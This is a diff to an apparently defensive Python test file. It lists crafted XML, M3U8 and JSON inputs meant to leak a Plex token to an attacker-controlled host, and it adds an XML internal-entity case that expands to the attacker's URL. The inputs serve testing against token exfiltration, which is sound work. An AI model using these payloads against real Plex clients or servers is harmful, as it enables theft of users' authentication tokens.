@@ -42,6 +42,10 @@ ATTACKS: dict[str, tuple[str, str]] = {
     "newline-in-xml-attribute": (XML, f'<V thumb="{EVIL}/\n?X-Plex-Token={TOK}"/>'),
     "xml-cdata": (XML, f"<Url><![CDATA[{EVIL}/ <a>?X-Plex-Token={TOK}]]></Url>"),
     "cr-in-playlist-line": (M3U8, f"#EXTM3U\n#EXTINF:8,\n{EVIL}/s\r?X-Plex-Token={TOK}\n"),
+    "xml-internal-entity": (
+        XML,
+        f'<!DOCTYPE V [<!ENTITY e "{EVIL}/">]><V thumb="&e;?X-Plex-Token={TOK}"/>',
+    ),  # an XML parser expands &e; to the attacker's URL
     "xml-base": (XML, f'<V xml:base="{EVIL}/" thumb="/t?X-Plex-Token={TOK}"/>'),
     "long-xml-attribute": (XML, f'<V thumb="{EVIL}/{PAD}?X-Plex-Token={TOK}"/>'),
     "escaped-quote-in-json": (JSON, f'{{"thumb": "{EVIL}/\\"?X-Plex-Token={TOK}"}}'),
